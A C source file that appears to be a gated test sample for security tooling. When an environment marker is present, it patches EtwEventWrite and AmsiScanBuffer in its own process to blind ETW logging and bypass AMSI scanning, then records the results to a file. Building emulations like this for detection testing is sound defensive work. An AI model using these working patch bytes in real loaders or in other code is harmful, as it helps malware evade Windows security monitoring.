/*
 * patcher.c - defence evasion by patching code in memory (benign, emulator-only).
 *
 * Unless CHAINREPLAY_SANDBOX=replay-only, exits 1 at once. Otherwise it does what loaders do before
 * their payload runs: makes ntdll!EtwEventWrite return at once (ETW blinded) and
 * amsi!AmsiScanBuffer return E_INVALIDARG (AMSI bypassed): the first by WriteProcessMemory into its
 * own process (no VirtualProtect needed), the second by VirtualProtect RWX, a few bytes written,
 * the old protection back; then calls both and writes what they returned to
 * C:\Users\Public\patch_result.txt. Exit codes: 0 ok, 1 no marker, 2 no function, 3 protect, 4 file.
 */
#include "common.h"

typedef ULONG(WINAPI *EtwEventWrite_t)(ULONGLONG, const void *, ULONG, void *);
typedef HRESULT(WINAPI *AmsiScanBuffer_t)(void *, void *, ULONG, LPCWSTR, void *, int *);

#ifdef _WIN64
static const unsigned char etw_patch[] = {0xc3};                                  /* ret */
static const unsigned char amsi_patch[] = {0xb8, 0x57, 0x00, 0x07, 0x80, 0xc3};   /* mov eax, E_INVALIDARG; ret */
#else
static const unsigned char etw_patch[] = {0xc2, 0x14, 0x00};                      /* ret 20 */
static const unsigned char amsi_patch[] = {0xb8, 0x57, 0x00, 0x07, 0x80, 0xc2, 0x18, 0x00}; /* ...; ret 24 */
#endif

static int patch(void *at, const unsigned char *bytes, DWORD n)
{
    DWORD old;
    if (!VirtualProtect(at, n, PAGE_EXECUTE_READWRITE, &old))
        return 0;
    for (DWORD i = 0; i < n; i++)
        ((volatile unsigned char *)at)[i] = bytes[i];
    return VirtualProtect(at, n, old, &old);
}

int Entry(void)
{
    char line[96];
    DWORD written;
    int result = 0;
    if (!marker_present())
        ExitProcess(1);
    EtwEventWrite_t etw = (EtwEventWrite_t)(void *)GetProcAddress(GetModuleHandleA("ntdll.dll"), "EtwEventWrite");
    HMODULE amsi = LoadLibraryA("amsi.dll");
    AmsiScanBuffer_t scan = amsi ? (AmsiScanBuffer_t)(void *)GetProcAddress(amsi, "AmsiScanBuffer") : 0;
    if (!etw || !scan)
        ExitProcess(2);
    SIZE_T done;
    if (!WriteProcessMemory(GetCurrentProcess(), (void *)etw, etw_patch, sizeof etw_patch, &done) ||
        !patch((void *)scan, amsi_patch, sizeof amsi_patch))
        ExitProcess(3);
    ULONG etw_result = etw(0, 0, 0, 0);
    HRESULT scan_result = scan(0, 0, 0, 0, 0, &result);
    int n = wsprintfA(line, "etw=%lu amsi=%#lx", etw_result == 0 ? 0UL : 1UL, (unsigned long)scan_result);
    HANDLE f = CreateFileA("C:\\Users\\Public\\patch_result.txt", GENERIC_WRITE, 0, 0, CREATE_ALWAYS, 0, 0);
    if (f == INVALID_HANDLE_VALUE || !WriteFile(f, line, (DWORD)n, &written, 0))
        ExitProcess(4);
    CloseHandle(f);
    ExitProcess(0);
    return 0;
}
